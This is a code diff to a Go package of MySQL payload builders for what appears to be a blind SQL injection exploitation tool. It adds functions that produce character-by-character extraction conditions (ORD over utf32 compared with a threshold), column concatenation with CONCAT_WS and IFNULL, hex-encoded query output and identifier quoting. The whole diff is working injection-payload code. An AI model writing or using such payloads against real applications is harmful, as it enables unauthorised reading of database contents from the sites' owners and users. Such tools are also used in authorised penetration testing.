@@ -1,6 +1,9 @@
 package payloads
 
-import "fmt"
+import (
+	"fmt"
+	"strings"
+)
 
 // MySQLPayloads implements payloads for MySQL
 type MySQLPayloads struct{}
@@ -41,6 +44,24 @@ func (m *MySQLPayloads) GetCharPayload(query string, pos int, n int) string {
 	return fmt.Sprintf("ASCII(SUBSTRING((%s),%d,1))>%d", query, pos, n)
 }
 
+func (m *MySQLPayloads) GetCodePayload(query string, pos int, n int) string {
+	// ORD() over utf32 yields the code point instead of the first byte
+	return fmt.Sprintf("ORD(CONVERT(SUBSTRING((%s),%d,1) USING utf32))>%d", query, pos, n)
+}
+
+func (m *MySQLPayloads) GetConcatPayload(columns []string, delim string) string {
+	// CONCAT_WS skips NULLs, so IFNULL keeps every cell in place
+	cells := make([]string, len(columns))
+	for i, col := range columns {
+		cells[i] = fmt.Sprintf("IFNULL(%s,'')", col)
+	}
+	return fmt.Sprintf("CONCAT_WS('%s',%s)", delim, strings.Join(cells, ","))
+}
+
+func (m *MySQLPayloads) GetHexQuery(query string) string {
+	return fmt.Sprintf("HEX((%s))", query)
+}
+
 func (m *MySQLPayloads) GetSubstringFunc() string {
 	return "SUBSTRING"
 }
@@ -52,3 +73,8 @@ func (m *MySQLPayloads) GetLengthFunc() string {
 func (m *MySQLPayloads) WrapCondition(condition string) string {
 	return condition
 }
+
+func (m *MySQLPayloads) QuoteIdentifier(name string) string {
+	// Backticks never change case sensitivity, so always quote
+	return quoteIdentifier(name, "`", "`", nil)
+}